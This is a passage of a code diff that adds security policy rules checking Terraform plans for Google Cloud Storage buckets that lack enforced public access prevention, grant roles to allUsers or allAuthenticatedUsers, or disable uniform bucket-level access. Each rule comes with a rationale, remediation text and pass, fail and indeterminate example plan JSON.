+        for b in terraform.resource("google_storage_bucket")
+        when not is_null(b.after)
+        let pap = b.after.public_access_prevention
+        # Computed when not written: "inherited" from the organization policy.
+        let pap_unset = is_unknown(pap) and exists(b.config) and not exists(b.config.public_access_prevention)
+        require not exists(pap) or pap_unset or pap == "enforced"
+          else "'${b.address}' does not enforce public access prevention (public_access_prevention = '${pap}')"
+          at pap
+        # Missing before provider 4.x, which cannot set it.
+        require exists(pap) and not pap_unset
+          else "'${b.address}' does not set public_access_prevention: it inherits the organization policy instead of enforcing prevention"
+
+        example pass """
+          {"format_version": "1.2", "resource_changes": [
+            {"address": "google_storage_bucket.exports", "mode": "managed", "type": "google_storage_bucket", "name": "exports",
+             "provider_name": "registry.terraform.io/hashicorp/google",
+             "change": {"actions": ["create"], "before": null, "after_unknown": {"id": true, "self_link": true},
+               "after": {"name": "acme-exports", "location": "EU", "uniform_bucket_level_access": true, "public_access_prevention": "enforced"}}}]}
+        """
+        example fail "inherited" """
+          {"format_version": "1.2", "resource_changes": [
+            {"address": "google_storage_bucket.exports", "mode": "managed", "type": "google_storage_bucket", "name": "exports",
+             "provider_name": "registry.terraform.io/hashicorp/google",
+             "change": {"actions": ["create"], "before": null, "after_unknown": {"id": true, "self_link": true},
+               "after": {"name": "acme-exports", "location": "EU", "public_access_prevention": ↓"inherited"}}}]}
+        """ expect "'google_storage_bucket.exports' does not enforce public access prevention (public_access_prevention = 'inherited')"
+        example fail "not written" """
+          {"format_version": "1.2", "resource_changes": [
+            ↓{"address": "google_storage_bucket.exports", "mode": "managed", "type": "google_storage_bucket", "name": "exports",
+             "provider_name": "registry.terraform.io/hashicorp/google",
+             "change": {"actions": ["create"], "before": null,
+               "after": {"name": "acme-exports", "location": "EU"},
+               "after_unknown": {"id": true, "self_link": true, "public_access_prevention": true}}}],
+           "configuration": {"root_module": {"resources": [
+            {"address": "google_storage_bucket.exports", "mode": "managed", "type": "google_storage_bucket", "name": "exports",
+             "expressions": {"name": {"constant_value": "acme-exports"}, "location": {"constant_value": "EU"}}}]}}}
+        """ expect "does not set public_access_prevention: it inherits the organization policy"
+        example indeterminate "value known only after apply" """
+          {"format_version": "1.2", "resource_changes": [
+            {"address": "google_storage_bucket.exports", "mode": "managed", "type": "google_storage_bucket", "name": "exports",
+             "provider_name": "registry.terraform.io/hashicorp/google",
+             "change": {"actions": ["create"], "before": null,
+               "after": {"name": "acme-exports", "location": "EU"},
+               "after_unknown": {"id": true, "self_link": true, "public_access_prevention": true}}}]}
+        """
+      }
+
+      """#),
+    PolicySource(
+      path: "rules/security/terraform/gcp/gcp_storage_bucket_public_iam.plumb",
+      text: #"""
+      rule gcp_storage_bucket_public_iam {
+        title "Cloud Storage buckets are not granted to allUsers or allAuthenticatedUsers"
+        severity critical
+        category security
+        tags [terraform, gcp, storage, iam, public-access]
+        rationale """
+          `allUsers` is anyone on the internet; `allAuthenticatedUsers` is anyone with any Google
+          account, which anyone can create in a minute. A bucket role granted to either publishes the
+          bucket (or, with write roles, lets strangers plant or delete objects); bucket scanners find such
+          buckets by name guessing within days, and leaked exports, backups and credentials follow.
+        """
+        remediation """
+          Remove the member from the `google_storage_bucket_iam_member`/`_binding`/`_policy`; grant
+          the role to the groups or service accounts that need it, and serve genuinely public files
+          through Cloud CDN or signed URLs. `public_access_prevention = "enforced"` on the bucket makes
+          Cloud Storage refuse such grants.
+        """
+        param public_principals: list<string> = ["allUsers", "allAuthenticatedUsers"]
+
+        for m in terraform.resource("google_storage_bucket_iam_member", "google_storage_bucket_iam_binding", "google_storage_bucket_iam_policy")
+        when not is_null(m.after)
+        # `member` (iam_member) or `members` (iam_binding).
+        let public = filter(x in flatten([[m.after.member], default(m.after.members, [])]), trim(x) in param.public_principals)
+        require count(public) == 0
+          else "'${m.address}' grants '${m.after.role}' on bucket '${m.after.bucket}' to '${first(public)}'"
+          at first(public)
+        # iam_policy: the policy document is a JSON string.
+        require not (m.after.policy_data matches "\"(allUsers|allAuthenticatedUsers)\"")
+          else "'${m.address}' grants a role to allUsers or allAuthenticatedUsers in its policy_data"
+          at m.after.policy_data
+
+        example pass """
+          {"format_version": "1.2", "resource_changes": [
+            {"address": "google_storage_bucket_iam_member.reader", "mode": "managed", "type": "google_storage_bucket_iam_member", "name": "reader",
+             "provider_name": "registry.terraform.io/hashicorp/google",
+             "change": {"actions": ["create"], "before": null, "after_unknown": {"id": true, "etag": true},
+               "after": {"bucket": "acme-exports", "role": "roles/storage.objectViewer", "member": "group:analysts@acme.example", "condition": []}}}]}
+        """
+        example fail "member" """
+          {"format_version": "1.2", "resource_changes": [
+            {"address": "google_storage_bucket_iam_member.public", "mode": "managed", "type": "google_storage_bucket_iam_member", "name": "public",
+             "provider_name": "registry.terraform.io/hashicorp/google",
+             "change": {"actions": ["create"], "before": null, "after_unknown": {"id": true, "etag": true},
+               "after": {"bucket": "acme-site", "role": "roles/storage.objectViewer", "member": ↓"allUsers", "condition": []}}}]}
+        """ expect "'google_storage_bucket_iam_member.public' grants 'roles/storage.objectViewer' on bucket 'acme-site' to 'allUsers'"
+        example fail "binding" """
+          {"format_version": "1.2", "resource_changes": [
+            {"address": "google_storage_bucket_iam_binding.readers", "mode": "managed", "type": "google_storage_bucket_iam_binding", "name": "readers",
+             "provider_name": "registry.terraform.io/hashicorp/google",
+             "change": {"actions": ["create"], "before": null, "after_unknown": {"id": true, "etag": true, "members": [false, false]},
+               "after": {"bucket": "acme-exports", "role": "roles/storage.objectViewer", "members": ["group:analysts@acme.example", ↓"allAuthenticatedUsers"], "condition": []}}}]}
+        """ expect "to 'allAuthenticatedUsers'"
+        example fail "policy" """
+          {"format_version": "1.2", "resource_changes": [
+            {"address": "google_storage_bucket_iam_policy.p", "mode": "managed", "type": "google_storage_bucket_iam_policy", "name": "p",
+             "provider_name": "registry.terraform.io/hashicorp/google",
+             "change": {"actions": ["create"], "before": null, "after_unknown": {"id": true, "etag": true},
+               "after": {"bucket": "acme-exports", "policy_data": ↓"{\"bindings\":[{\"members\":[\"allUsers\"],\"role\":\"roles/storage.objectViewer\"}]}"}}}]}
+        """ expect "grants a role to allUsers or allAuthenticatedUsers in its policy_data"
+        example indeterminate "member known only after apply" """
+          {"format_version": "1.2", "resource_changes": [
+            {"address": "google_storage_bucket_iam_member.reader", "mode": "managed", "type": "google_storage_bucket_iam_member", "name": "reader",
+             "provider_name": "registry.terraform.io/hashicorp/google",
+             "change": {"actions": ["create"], "before": null,
+               "after": {"bucket": "acme-exports", "role": "roles/storage.objectViewer", "condition": []},
+               "after_unknown": {"id": true, "etag": true, "member": true}}}]}
+        """
+      }
+
+      """#),
+    PolicySource(
+      path: "rules/security/terraform/gcp/gcp_storage_bucket_uniform_access_disabled.plumb",
+      text: #"""
+      rule gcp_storage_bucket_uniform_access_disabled {
+        title "Cloud Storage buckets use uniform bucket-level access"
+        severity medium
+        category security
+        tags [terraform, gcp, storage, iam]
+        rationale """
+          Without uniform bucket-level access every object carries its own ACL, next to the bucket's
+          IAM policy. Any writer can then publish a single object with `allUsers:READER` (or an upload
+          tool's `publicRead` default), and nobody sees it in the bucket's IAM: audits, org policies and
+          IAM Recommender all look at IAM only. Uniform access turns object ACLs off, so IAM alone
+          decides who reads what.
+        """
+        remediation """
+          Set `uniform_bucket_level_access = true` on the `google_storage_bucket` (provider 3.x:
+          `bucket_policy_only = true`) and grant access with `google_storage_bucket_iam_*` instead of
+          object ACLs.
+        """
+
+        for b in terraform.resource("google_storage_bucket")
+        when not is_null(b.after)
+        let ubla = b.after.uniform_bucket_level_access
+        # Both are computed when not written; buckets then keep fine-grained (ACL) access unless an
+        # organization policy says otherwise.
+        let ubla_unset = is_unknown(ubla) and exists(b.config) and not exists(b.config.uniform_bucket_level_access)
+        let bpo = b.after.bucket_policy_only
+        let bpo_unset = is_unknown(bpo) and exists(b.config) and not exists(b.config.bucket_policy_only)
+        require (not bpo_unset and bpo == true) or (not ubla_unset and ubla == true)
+            or b.config.uniform_bucket_level_access.constant_value == true
+          else "'${b.address}' does not enable uniform_bucket_level_access: per-object ACLs can grant access that IAM does not show"
+          at ubla
+
+        example pass """
+          {"format_version": "1.2", "resource_changes": [
+            {"address": "google_storage_bucket.exports", "mode": "managed", "type": "google_storage_bucket", "name": "exports",
+             "provider_name": "registry.terraform.io/hashicorp/google",
+             "change": {"actions": ["create"], "before": null, "after_unknown": {"id": true, "self_link": true},
+               "after": {"name": "acme-exports", "location": "EU", "uniform_bucket_level_access": true, "public_access_prevention": "enforced"}}}]}
+        """
+        example fail "turned off" """
+          {"format_version": "1.2", "resource_changes": [
+            {"address": "google_storage_bucket.exports", "mode": "managed", "type": "google_storage_bucket", "name": "exports",
+             "provider_name": "registry.terraform.io/hashicorp/google",
+             "change": {"actions": ["create"], "before": null, "after_unknown": {"id": true, "self_link": true},
+               "after": {"name": "acme-exports", "location": "EU", "uniform_bucket_level_access": ↓false}}}]}
+        """ expect "'google_storage_bucket.exports' does not enable uniform_bucket_level_access"
+        example fail "not written" """
+          {"format_version": "1.2", "resource_changes": [
+            ↓{"address": "google_storage_bucket.exports", "mode": "managed", "type": "google_storage_bucket", "name": "exports",
+             "provider_name": "registry.terraform.io/hashicorp/google",
+             "change": {"actions": ["create"], "before": null,
+               "after": {"name": "acme-exports", "location": "EU"},
+               "after_unknown": {"id": true, "self_link": true, "uniform_bucket_level_access": true}}}],
+           "configuration": {"root_module": {"resources": [
+            {"address": "google_storage_bucket.exports", "mode": "managed", "type": "google_storage_bucket", "name": "exports",
+             "expressions": {"name": {"constant_value": "acme-exports"}, "location": {"constant_value": "EU"}}}]}}}
+        """ expect "does not enable uniform_bucket_level_access"
+        example indeterminate "value from a variable known only after apply" """
+          {"format_version": "1.2", "resource_changes": [
+            {"address": "google_storage_bucket.exports", "mode": "managed", "type": "google_storage_bucket", "name": "exports",
+             "provider_name": "registry.terraform.io/hashicorp/google",
+             "change": {"actions": ["create"], "before": null,
+               "after": {"name": "acme-exports", "location": "EU"},
+               "after_unknown": {"id": true, "self_link": true, "uniform_bucket_level_access": true}}}],
+           "configuration": {"root_module": {"resources": [
+            {"address": "google_storage_bucket.exports", "mode": "managed", "type": "google_storage_bucket", "name": "exports",
+             "expressions": {"name": {"constant_value": "acme-exports"},
+                             "uniform_bucket_level_access": {"references": ["data.google_project.p.number", "data.google_project.p"]}}}]}}}
         """
       }
 
